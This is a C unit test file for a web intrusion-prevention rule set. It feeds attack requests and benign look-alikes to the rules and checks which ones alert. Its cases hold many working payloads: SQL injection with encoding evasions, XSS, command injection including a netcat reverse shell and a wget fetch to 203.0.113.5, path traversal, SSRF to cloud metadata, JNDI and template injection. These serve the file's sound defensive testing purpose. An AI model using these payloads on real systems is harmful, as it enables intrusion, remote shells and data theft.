/* test_rules_default_ingress.c - ingress rules of rules/default.rules: per category true
 * positives (with encoding, case, comment and whitespace evasions) that must raise an exact
 * sid, and benign look-alikes that must raise nothing. */
#include <setjmp.h>
#include <stdarg.h>
#include <stddef.h>
#include <stdint.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <cmocka.h>

#include "common/util.h"
#include "rdef_harness.h"

static int setup(void **state)
{
    *state = rdef_fixture_new(RDEF_RULES);
    return *state ? 0 : -1;
}

static int teardown(void **state)
{
    rdef_fixture_free(*state);
    return 0;
}

static void scan(struct rdef_fixture *f, const char *msg, struct rdef_result *r)
{
    rdef_scan(f->rs, f->s, (const uint8_t *)msg, strlen(msg), r);
    assert_int_equal(r->status, 0);
}

static void get(struct rdef_fixture *f, const char *target, const char *extra, char *out, size_t n)
{
    assert_true(hs_snprintf(out, n, "GET %s HTTP/1.1\r\nHost: shop.example.com\r\nUser-Agent: "
                            "Mozilla/5.0 (X11; Linux x86_64)\r\n%s\r\n", target, extra));
    (void)f;
}

static void post(const char *ctype, const char *body, char *out, size_t n)
{
    assert_true(hs_snprintf(out, n, "POST /submit HTTP/1.1\r\nHost: shop.example.com\r\n"
                            "User-Agent: Mozilla/5.0\r\nContent-Type: %s\r\nContent-Length: %zu\r\n\r\n%s",
                            ctype, strlen(body), body));
}

struct tp {
    const char *target;   /* GET target, or NULL for a POST */
    const char *extra;    /* extra header lines ("Name: v\r\n") or the POST body */
    const char *ctype;    /* POST content type */
    uint32_t sid;
};

static void check_tp(void **state, const struct tp *cases, size_t n)
{
    struct rdef_fixture *f = *state;
    char msg[4096];
    for (size_t i = 0; i < n; i++) {
        const struct tp *c = &cases[i];
        if (c->target)
            get(f, c->target, c->extra ? c->extra : "", msg, sizeof(msg));
        else
            post(c->ctype, c->extra, msg, sizeof(msg));
        struct rdef_result r;
        scan(f, msg, &r);
        if (!rdef_has(&r, c->sid))
            fail_msg("case %zu: sid %u not raised (%zu alerts) for %s", i, c->sid, r.n,
                     c->target ? c->target : c->extra);
    }
}

#define FORM "application/x-www-form-urlencoded"
#define JSON "application/json"

static void test_sqli(void **state)
{
    static const struct tp c[] = {
        {"/p?id=1%20UNION%20SELECT%20user,pass%20FROM%20users", NULL, NULL, 2100000},
        {"/p?id=x%27%20or%20(EXISTS(select%201))", NULL, NULL, 2100027},      /* quote, or, operand */
        {"/p?id=x%27and%20sleep(5)--", NULL, NULL, 2100027},
        {"/p", "Cookie: s=1; page=1%29%20or%20sleep%285%29%231\r\n", NULL, 2100008},  /* encoded ( in a cookie */
        {NULL, "{\"id\": \"&apos; OR 1=1--\"}", JSON, 2100028},                  /* HTML-escaped quote */
        {NULL, "{\"id\": \"\\\\x27 or 1=1 --\"}", JSON, 2100028},           /* \\x27 escape */
        {"/p?id=1%20UnIoN/**/aLl/**/SeLeCt%20NULL,NULL", NULL, NULL, 2100000},  /* comments, case */
        {"/p?id=1%20UN%2f%2a%2a%2fION%20SELECT%201", NULL, NULL, 2100018},      /* UN, empty comment, ION */
        {"/p?id=1%09union%0aselect%0d1", NULL, NULL, 2100000},                   /* whitespace */
        {"/p?id=1%2527%20OR%201=1--%20-", NULL, NULL, 2100003},                  /* double encoding */
        {"/p?name=x'%20AND%20'abc'='abc", NULL, NULL, 2100003},
        {"/p?id=1%20AND%20SLEEP(5)", NULL, NULL, 2100006},
        {"/p?id=1;%20DROP%20TABLE%20users--", NULL, NULL, 2100012},
        {"/p?u=admin'--%20", NULL, NULL, 2100009},
        {"/p?id=1%20AND%20(SELECT%201%20FROM%20information_schema.tables)", NULL, NULL, 2100015},
        {NULL, "user=1%27+union+select+password+from+users--+-", FORM, 2100001},  /* body, '+' spaces */
        {NULL, "{\"id\": \"1 AND 4242=4242\"}", JSON, 2100004},
        {"/p", "Cookie: sid=1%27%20or%20%271%27%3D%271\r\n", NULL, 2100005},     /* cookie */
        {"/p?id=1%20AND%20CASE%20WHEN%20(1=1)%20THEN%201%20ELSE%200%20END", NULL, NULL, 2100021},
        {"/p", "Cookie: id=or%200%3D0%20--\r\n", NULL, 2100005},               /* value starts with OR */
        {"/p?q=%22%27%20or%201%20--%27%22", NULL, NULL, 2100003},                /* quote, OR number, comment */
        {"/p?id=1%27%20AnD%20tRuE--", NULL, NULL, 2100003},
        {"/p?id=1%20and%20exists(select%20*%20from%20users)", NULL, NULL, 2100021},
        {NULL, "{\"p\": \"'||UTL_HTTP.REQUEST('http://x.test/')||'\"}", JSON, 2100016},  /* Oracle package */
        {"/p?q=x'%20AND%201=DBMS_XMLGEN.getxml('select%201')", NULL, NULL, 2100015},
        {"/dir?cn=*)(%7C(mail=*))", NULL, NULL, 2100024},                      /* LDAP filter */
        {"/dir?cn=x)(%26(objectClass=*))", NULL, NULL, 2100024},
        /* ORDER BY column-count probes (number or string value, comment or end) */
        {"/p?id=-42%20ORDER%20BY%207%23", NULL, NULL, 2100030},
        {"/p?id=3%20order%20by%2012", NULL, NULL, 2100030},                      /* whole value */
        {NULL, "user=guest+ORDER+BY+4--+xYz&pass=a", FORM, 2100031},
        {"/p", "Cookie: s=guest%20ORDER%20BY%203%23\r\n", NULL, 2100032},      /* URL-decoded header */
        {"/p", "User-Agent: -7 ORDER BY 9-- abc\r\n", NULL, 2100032},
        /* whitespace evasions: comment + newline, MSSQL control blanks, overlong UTF-8, entities */
        {"/p?id=1%27--qWe%0AORDER--rTy%0ABY--uIo%0A1--%20x", NULL, NULL, 2100030},
        {"/p?id=1%23aBc%0AWAITFOR%23dEf%0ADELAY%23g%0A%270%3A0%3A1%27", NULL, NULL, 2100021},
        {"/p?id=1%02AND%037299%3D7299", NULL, NULL, 2100003},
        {"/p?id=1%C0%A0AND%C0%A01044%C0%BD1044", NULL, NULL, 2100003},
        {"/p?id=1%26%2332%3BAND%26%2332%3B5342%26%2361%3B5342", NULL, NULL, 2100003},
        {"/p?id=1%20HAVING%201234%3D1234", NULL, NULL, 2100003},
        {"/p?id=%25S%25E%25L%25E%25C%25T%25201", NULL, NULL, 2100036},          /* IIS %-stripping */
        {"/p?id=1%%27%20%A%N%D%20%S%L%E%E%P%%28%5%%29", NULL, NULL, 2100036},
        {"/p?id=1%20WAITFOR%20DELAY%20%270%3A0%3A5%27", NULL, NULL, 2100021},    /* no ; needed */
        {"/p?id=1%EF%BC%87%20WAITFOR%20DELAY%20%EF%BC%870%3A0%3A5%EF%BC%87", NULL, NULL, 2100021},
        /* quote and bracket fuzzing (sqlmap heuristics) in a parameter, Referer, User-Agent */
        {"/p?id=1%28%28%2C%2C.%29%29%22%27.", NULL, NULL, 2100033},
        {"/p", "Referer: http://shop.example.com/p.php'abcDEF<'\">ghiJKL\r\n", NULL, 2100035},
        {"/p", "User-Agent: Mozilla/5.0 Firefox/1.0.7.\"((.),)')\r\n", NULL, 2100035},
        {"/p?id=1%26%2334%3B%26%2346%3B%26%2346%3B%26%2339%3B%26%2341%3B%26%2346%3B%26%2341%3B%26%2344%3B%26%2346%3B", NULL, NULL, 2100033},
        {"/p?id=7877%00", NULL, NULL, 2100309},                                  /* NUL ends the value */
        {NULL, "{\"id\": \"1' OR 'a' LIKE\\t'a\"}", JSON, 2100004},             /* JSON-escaped tab */
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_xss(void **state)
{
    static const struct tp c[] = {
        {"/s?q=%3Cscript%3Ealert(1)%3C/script%3E", NULL, NULL, 2100103},
        {"/s?q=%3CsCrIpT%20src=//x.test/a.js%3E", NULL, NULL, 2100103},
        {"/s?q=%3Cimg%20src=x%20onerror=alert(document.cookie)%3E", NULL, NULL, 2100100},
        {"/s?q=%253Csvg%2Fonload%3Dprompt(1)%253E", NULL, NULL, 2100106},        /* double-encoded */
        {"/s?u=javascript:alert(1)", NULL, NULL, 2100106},
        {NULL, "c=%3Cbody+onload%3Dalert%281%29%3E", FORM, 2100101},
        {NULL, "{\"c\": \"<iframe src=javascript:alert(1)>\"}", JSON, 2100104},
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_cmdi(void **state)
{
    static const struct tp c[] = {
        {"/ping?host=127.0.0.1;id", NULL, NULL, 2100200},
        {"/ping?host=127.0.0.1%7C%20cat%20/etc/passwd", NULL, NULL, 2100200},
        {"/ping?host=127.0.0.1%0awhoami", NULL, NULL, 2100200},
        {"/ping?host=$(id)", NULL, NULL, 2100203},
        {"/ping?host=x%60uname%20-a%60", NULL, NULL, 2100203},
        {"/ping?host=a;cat${IFS}/etc/passwd", NULL, NULL, 2100203},
        {NULL, "host=1%3Bnc+-e+%2Fbin%2Fsh+203.0.113.5+4444", FORM, 2100201},
        {"/x?code=system('id')", NULL, NULL, 2100206},
        {NULL, "{\"host\": \"127.0.0.1\\nwget http://203.0.113.5/x.sh\"}", JSON, 2100201}, /* JSON \\n */
        {NULL, "{\"host\": \"x\\r\\n/usr/bin/id\"}", JSON, 2100201},
        {"/ping?host=1;/usr/local/bin/nmap%20-sS%20x", NULL, NULL, 2100200},   /* path, new command */
        {"/ping?host=1|grep%20root%20/etc/passwd", NULL, NULL, 2100200},
        {"/ping?host=1;{cat,/etc/passwd}", NULL, NULL, 2100203},                /* brace expansion */
        {"/ping?host=1%26%26iex%20(New-Object%20Net.WebClient)", NULL, NULL, 2100200},
        /* English-word commands with shell context: redirection, option, subcommand */
        {"/x?cat=test%26%26echo+hacked+%3E+%2Ftmp%2Fx", NULL, NULL, 2100200},
        {"/x?h=127.0.0.1%0Anet+user", NULL, NULL, 2100200},
        {"/x?h=1;sleep%205", NULL, NULL, 2100200},
        {"/x?h=1|find%20/%20-perm%20-4000", NULL, NULL, 2100200},
        {"/x?h=1;ping%20-c%203%20203.0.113.5", NULL, NULL, 2100200},
        /* backticks glued to the value or ending it */
        {"/x?h=%60id%60", NULL, NULL, 2100203},
        {NULL, "host=127.0.0.1%60cat+%2Fetc%2Fpasswd%60", FORM, 2100204},
        {NULL, "host=x+%60id%60", FORM, 2100204},                              /* ends the value */
        {NULL, "{\"host\": \"a`uname -a`\"}", JSON, 2100204},
        /* quote splitting and globs */
        {"/x?h=%3Bc%27a%27t%20%2Fe%27t%27c%2Fpasswd", NULL, NULL, 2100203},
        {NULL, "to=%3B%24u%27n%27ame%20-a&lang=en", FORM, 2100204},
        {"/x?h=1;w%22h%22oami", NULL, NULL, 2100203},
        {"/x?h=%3B/%3F%3F%3F/%3F%3Ft%20/%3F%3F%3F/p%3F%3Fs%3F%3F", NULL, NULL, 2100203},  /* /???/??t */
        {"/x?h=1|/bin/c?t%20/etc/passwd", NULL, NULL, 2100203},
        {"/x?q=%7C%20dir%20C%3A%5C", NULL, NULL, 2100200},                       /* drive path */
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_traversal(void **state)
{
    static const struct tp c[] = {
        {"/view?file=../../../../etc/passwd", NULL, NULL, 2100303},
        {"/view?file=..%252f..%252f..%252fetc%252fpasswd", NULL, NULL, 2100303}, /* double */
        {"/view?file=%c0%ae%c0%ae/%c0%ae%c0%ae/boot.ini", NULL, NULL, 2100303},  /* overlong */
        {"/static/../../../etc/shadow", NULL, NULL, 2100306},                      /* path */
        {"/static/..%2f..%2f..%2f..%2fwindows/win.ini", NULL, NULL, 2100304},
        {"/index.php?page=php://filter/convert.base64-encode/resource=index", NULL, NULL, 2100309},
        {"/index.php?page=../config.php%00", NULL, NULL, 2100309},
        {NULL, "file=..%5C..%5C..%5Cwindows%5Cwin.ini", FORM, 2100301},
        {NULL, "file=..%2Fconfig.php", FORM, 2100301},                        /* start of value */
        {NULL, "{\"path\": \"../secret.key\"}", JSON, 2100301},
        {"/x?tpl=..%2Fadmin%2Findex", NULL, NULL, 2100303},
        {"/x?doc=a%2F..%2F..%2Fb", NULL, NULL, 2100303},                      /* climbs twice */
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_rfi_ssrf(void **state)
{
    static const struct tp c[] = {
        {"/index.php?page=http://evil.example.net/shell.txt?", NULL, NULL, 2100400},
        {"/index.php?page=http://203.0.113.7/c99", NULL, NULL, 2100400},
        {"/fetch?url=http://169.254.169.254/latest/meta-data/", NULL, NULL, 2100500},
        {"/fetch?url=http://127.0.0.1:6379/", NULL, NULL, 2100500},
        {"/fetch?url=http://0x7f000001/", NULL, NULL, 2100500},
        {"/fetch?url=http://metadata.google.internal/computeMetadata/v1/", NULL, NULL, 2100506},
        {"/fetch?url=gopher://127.0.0.1:6379/_INFO", NULL, NULL, 2100503},
        {NULL, "{\"webhook\": \"http://[::1]:8080/admin\"}", JSON, 2100501},
        {"/proxy?u=http%3A%2F%2F017700000001%2F", NULL, NULL, 2100500},          /* dotless octal */
        {NULL, "{\"source_url\":\"http://017700000001/\"}", JSON, 2100501},
        {"/hook?target=http://kubernetes.default.svc/api/v1/secrets", NULL, NULL, 2100500},
        {"/hook?target=http://redis.cache.svc.cluster.local:6379/", NULL, NULL, 2100500},
        {"/hook?target=http://admin.localtest.me/", NULL, NULL, 2100500},
        {"/main.php?page=http://evil.example.net/inc.txt?cmd=id", NULL, NULL, 2100400},
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_ssti_jndi(void **state)
{
    static const struct tp c[] = {
        {"/x", "X-Api-Version: ${jndi:ldap://203.0.113.5:1389/a}\r\n", NULL, 2100602},
        {"/x?q=${${lower:j}ndi:${lower:l}dap://x.test/a}", NULL, NULL, 2100600},
        {"/x?q=${${::-j}${::-n}${::-d}${::-i}:rmi://x.test/a}", NULL, NULL, 2100600},
        {"/x?name={{7*7}}", NULL, NULL, 2100603},
        {"/x?name={{''.__class__.__mro__[1].__subclasses__()}}", NULL, NULL, 2100606},
        {"/x?q=${T(java.lang.Runtime).getRuntime().exec('id')}", NULL, NULL, 2100606},
        {NULL, "tpl=%3C%25%3D+7*7+%25%3E", FORM, 2100604},
        {"/x", "Cookie: n=%2A%7B7%2A7%7D\r\n", NULL, 2100605},                /* *{ } percent-encoded */
        {"/x", "Cookie: r=%25%7B%28%23_%3D%27multipart%2Fform-data%27%29%7D\r\n", NULL, 2100608}, /* OGNL */
        {"/render?q=%3C%25=%20%60id%60%20%25%3E", NULL, NULL, 2100603},          /* ERB back-ticks */
        {NULL, "email=%24%7BapplicationScope%7D&lang=en", FORM, 2100604},       /* EL implicit object */
        {"/", "X-Api-Version: ${sessionScope}\r\n", NULL, 2100605},
    };
    check_tp(state, c, HS_ARRAY_SIZE(c));
}

static void test_scanner(void **state)
{
    struct rdef_fixture *f = *state;
    static const char *uas[] = {"sqlmap/1.7.2#stable (https://sqlmap.org)",
                                "Mozilla/5.00 (Nikto/2.1.6) (Evasions:None) (Test:000001)", "Wfuzz/3.1.0",
                                "Mozilla/5.0 (compatible; Nmap Scripting Engine; https://nmap.org/book/nse.html)",
                                "Fuzz Faster U Fool v2.1.0", "gobuster/3.6", "Nuclei - Open-source project (github.com/projectdiscovery/nuclei)",
                                "Mozilla/5.0 zgrab/0.x", "WPScan v3.8.25 (https://wpscan.com/wordpress-security-scanner)",
                                "Mozilla/5.0 (Windows NT 10.0) Acunetix-Product", "DirBuster-1.0-RC1 (http://www.owasp.org/)",
                                "Mozilla/5.0 SF/2.10b", "WhatWeb/0.5.5", "Arachni/v1.6.1", "w3af.org", "masscan/1.3",
                                "OpenVAS-VT", "Mozilla/5.0 (compatible; Netsparker)", "commix/v3.8", "feroxbuster/2.10.1",
                                "dirsearch", "XSStrike", "Hydra", "CensysInspect/1.1", "Havij",
                                "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1)"};   /* dirb's default */
    char msg[1024];
    for (size_t i = 0; i < HS_ARRAY_SIZE(uas); i++) {
        assert_true(hs_snprintf(msg, sizeof(msg), "GET / HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\n\r\n", uas[i]));
        struct rdef_result r;
        scan(f, msg, &r);
        if (!rdef_has(&r, 2100700))
            fail_msg("scanner UA not detected: %s", uas[i]);
    }
    /* request fingerprints independent of the User-Agent */
    static const struct tp fp[] = {
        {"/nice%20ports%2C/Tri%6Eity.txt%2ebak", NULL, NULL, 2100702},             /* nmap probe */
        {"/acunetix-wvs-test-for-some-inexistent-file", NULL, NULL, 2100702},
        {"/x?u=http://abc123.oastify.com/", NULL, NULL, 2100702},                  /* Burp Collaborator */
        {NULL, "{\"cb\": \"x.c59df3a.oast.fun\"}", JSON, 2100703},                /* interactsh */
        {"/p?user=guest%27%20OR%20sqlspider", NULL, NULL, 2100702},              /* nmap NSE markers */
        {NULL, "text=ghz%3Ehzx", FORM, 2100703},
        {"/p?id=1ghz%3Ehzx%22zxc%27xcv", NULL, NULL, 2100702},
        /* vulnerable-application paths */
        {"/invoker/JMXInvokerServlet", NULL, NULL, 2100705},
        {"/jmx-console/HtmlAdaptor", NULL, NULL, 2100705},
        {"/_vti_bin/shtml.exe", NULL, NULL, 2100705},
        {"/Micros~1/", NULL, NULL, 2100705},
        {"/scripts/x.ida?NNNN", NULL, NULL, 2100705},
    };
    check_tp(state, fp, HS_ARRAY_SIZE(fp));
    /* browsers, including a real Internet Explorer 6 (it adds tokens), and ordinary paths */
    static const char *ok_uas[] = {"Mozilla/5.0 (Windows NT 10.0; Trident/7.0; rv:11.0) like Gecko",
                                   "Mozilla/4.0 (compatible; MSIE 6.0; Windows NT 5.1; SV1; .NET CLR 2.0.50727)",
                                   "Mozilla/5.0 (X11; Linux x86_64; rv:128.0) Gecko/20100101 Firefox/128.0"};
    for (size_t i = 0; i < HS_ARRAY_SIZE(ok_uas); i++) {
        assert_true(hs_snprintf(msg, sizeof(msg), "GET /manager/ HTTP/1.1\r\nHost: a\r\nUser-Agent: %s\r\n\r\n", ok_uas[i]));
        struct rdef_result r;
        scan(f, msg, &r);
        if (r.n != 0)
            fail_msg("benign User-Agent raised sid %u: %s", r.sids[0], ok_uas[i]);
    }
}

/* Benign look-alikes: none may alert. */
static void test_benign_lookalikes(void **state)
{
    struct rdef_fixture *f = *state;
    static const struct tp c[] = {
        {"/search?q=O%27Brien", NULL, NULL, 0},                                   /* apostrophe */
        {"/search?name=Sin%C3%A9ad+O%27Connor&city=Cork", NULL, NULL, 0},
        {"/search?q=how+to+select+a+good+laptop+from+the+union+catalog", NULL, NULL, 0},
        {"/search?q=drop+table+tennis+lessons", NULL, NULL, 0},
        {"/search?q=it%27s+5+o%27clock+and+time+to+order+by+phone", NULL, NULL, 0},
        {"/static/css/../img/logo.png", NULL, NULL, 0},                            /* .. inside */
        {"/docs/guide/../faq.html?lang=en", NULL, NULL, 0},
        {"/share?url=https%3A%2F%2Fwww.wikipedia.org%2Fwiki%2FHTTP", NULL, NULL, 0},
        {"/search?q=rock+%26+roll&sort=-rating", NULL, NULL, 0},
        {NULL, "name=Anne-Marie+D%27Arcy&comment=Great+product%2C+%3Cb%3Ehighly%3C%2Fb%3E+recommended%21", FORM, 0},
        {NULL, "comment=I+%3Ci%3Elove%3C%2Fi%3E+it.+Use+the+%27select%27+button", FORM, 0},
        {NULL, "{\"title\": \"Select committee report\", \"tags\": [\"union\", \"select\", \"or\"], "
               "\"author\": \"O'Neil\", \"body\": \"<b>bold</b> and <i>it</i>\"}", JSON, 0},
        {NULL, "q=Javascript%3A+the+good+parts+%28book%29&cat=books&id=3", FORM, 0},
        {"/p", "Cookie: session=YWJjZGVmZ2hpams; theme=dark\r\nReferer: https://www.example.org/search?q=shoes\r\n", NULL, 0},
        {NULL, "{\"note\": \"Line one\\nSet the table\\nfind the keys\\ntype it\"}", JSON, 0}, /* \\n + words */
        {"/search?q=to+be+or+not+to+be", NULL, NULL, 0},
        {"/search?q=or+2+tickets+please", NULL, NULL, 0},
        {"/search?q=cats+(or+dogs)+for+adoption", NULL, NULL, 0},
        {"/search?q=does+it+exist+(and+where)%3F", NULL, NULL, 0},
        {"/search?q=regex+(a%7Cb)+and+(x%26y)", NULL, NULL, 0},
        {NULL, "{\"text\": \"Use {curly, braces} and *{stars}* in markdown\"}", JSON, 0},
        {"/docs/dbms/utl_http_guide.html", NULL, NULL, 0},
        /* Markdown inline code, prose paths and "function calls" in prose */
        {NULL, "title=Tips&body=Run+%60ls+-la%60+then+%60cat+notes.txt%60+to+check.", FORM, 0},
        {NULL, "{\"body\": \"Run `ls -la` then `cat notes.txt` to check.\"}", JSON, 0},
        {NULL, "body=Use+%60SELECT+name+FROM+t+WHERE+id+%3D+%3F%60+with+bound+parameters.", FORM, 0},
        {NULL, "title=x&body=See+..%2Fdocs%2Fsetup.md+in+the+repo", FORM, 0},
        {"/search?q=see+../docs/setup.md+in+the+repo", NULL, NULL, 0},
        {"/search?q=sleep(8+hours)+for+kids&page=2", NULL, NULL, 0},
        {NULL, "{\"note\": \"sleep(8 hours) for kids\"}", JSON, 0},
        {"/search?q=count(3+apples)+and+if(needed)", NULL, NULL, 0},
        {"/search?q=Is+it+5%27+10%22+or+5%27+11%22%3F", NULL, NULL, 0},          /* feet and inches */
        {NULL, "{\"note\": \"Is it 5' 10\\\" or 5' 11\\\"?\"}", JSON, 0},
        {"/forum?q=ping+me+when+ready%3B+set+the+table", NULL, NULL, 0},
        {NULL, "msg=Done%3B+more+info+later%3B+find+the+keys", FORM, 0},
        {"/search?q=Price%3A+10+%3C+20%3B+discount+%26+tax+included", NULL, NULL, 0},
        {NULL, "--b1\r\nContent-Disposition: form-data; name=\"file\"; filename=\"up.sh\"\r\n"
               "Content-Type: text/plain\r\n\r\n#!/bin/sh\necho hello\n\r\n--b1--\r\n", "multipart/form-data; boundary=b1", 0},
        {NULL, "{\"title\": \"and select drop where root include\", \"query\": \"or not to be\"}", JSON, 0},
        /* quoted words with and/or, prose dashes after a parenthesis, ORDER BY in prose */
        {"/search?q=Type+%27cats%27+or+%27dogs%27+between+the+quotes", NULL, NULL, 0},
        {NULL, "{\"note\": \"Say 'yes' or 'no' like you mean it.\"}", JSON, 0},
        {"/search?q=Chapter+(part+2)+--+see+the+appendix+for+details", NULL, NULL, 0},
        {NULL, "msg=The+box+(blue)+--+it+was+wet+when+it+came", FORM, 0},
        {"/search?q=deliver+in+order+by+5+pm+please", NULL, NULL, 0},
        /* multipart: a text field that starts with an SQL word, a boundary with dashes */
        {NULL, "------XyZ\r\nContent-Disposition: form-data; name=\"title\"\r\n\r\nDelete old photos first.\r\n"
               "------XyZ\r\nContent-Disposition: form-data; name=\"c\"\r\n\r\nUpdate (v2)\r\n------XyZ--\r\n",
               "multipart/form-data; boundary=----XyZ", 0},
        /* random bytes of an upload after {{ */
        {NULL, "--b2\r\nContent-Disposition: form-data; name=\"f\"; filename=\"a.jpg\"\r\nContent-Type: image/jpeg\r\n\r\n"
               "\xff\xd8\x8a{{\xe3\x07L:7p#\xacW\xca\xc6\xe0]\x02?!6\x94+R\r\n--b2--\r\n", "multipart/form-data; boundary=b2", 0},
        {NULL, "{\"t\": \"Wait (...).\", \"u\": 1}", JSON, 0},                  /* short punctuation run */
        {"/report?fmt=%25Y%25m%25d%25H%25M%25S", NULL, NULL, 0},               /* strftime, not IIS %-letters */
        {"/search?q=books%3B+O%27Brien%27s+stories", NULL, NULL, 0},          /* quotes inside a name */
        {"/search?q=what/why?/how?", NULL, NULL, 0},
        {"/go?u=https%3A%2F%2Fwww.milan.example.com%2Fmenu", NULL, NULL, 0},
        {NULL, "{\"text\": \"Use ${price} and #{name} in the template\"}", JSON, 0},
        {"/static/report~final.pdf", NULL, NULL, 0},
    };
    char msg[4096];
    for (size_t i = 0; i < HS_ARRAY_SIZE(c); i++) {
        if (c[i].target)
            get(f, c[i].target, c[i].extra ? c[i].extra : "", msg, sizeof(msg));
        else
            post(c[i].ctype, c[i].extra, msg, sizeof(msg));
        struct rdef_result r;
        scan(f, msg, &r);
        if (r.n != 0)
            fail_msg("benign case %zu raised sid %u: %s", i, r.sids[0], c[i].target ? c[i].target : c[i].extra);
    }
}

/* Every rule has a category, a drop action and a unique sid in the project's range. */
static void test_rule_set_shape(void **state)
{
    struct rdef_fixture *f = *state;
    size_t n = ips_ruleset_count(f->rs);
    assert_true(n >= 40);
    /* every rule has a prefilter (a content or a Hyperscan-compilable pcre) */
    assert_int_equal(ips_ruleset_always_count(f->rs), 0);
    assert_true(ips_ruleset_regex_count(f->rs) >= 60);
    for (size_t i = 0; i < n; i++) {
        const struct ips_rule *r = ips_ruleset_rule(f->rs, i);
        assert_int_equal(ips_rule_action(r), IPS_ACT_DROP);
        assert_in_range(ips_rule_sid(r), 2100000, 2100999);
        assert_int_equal(ips_rule_metadata_count(r), 1);
    }
}

int main(void)
{
    const struct CMUnitTest tests[] = {
        cmocka_unit_test(test_sqli),     cmocka_unit_test(test_xss),
        cmocka_unit_test(test_cmdi),     cmocka_unit_test(test_traversal),
        cmocka_unit_test(test_rfi_ssrf), cmocka_unit_test(test_ssti_jndi),
        cmocka_unit_test(test_scanner),  cmocka_unit_test(test_benign_lookalikes),
        cmocka_unit_test(test_rule_set_shape),
    };
    return cmocka_run_group_tests(tests, setup, teardown);
}
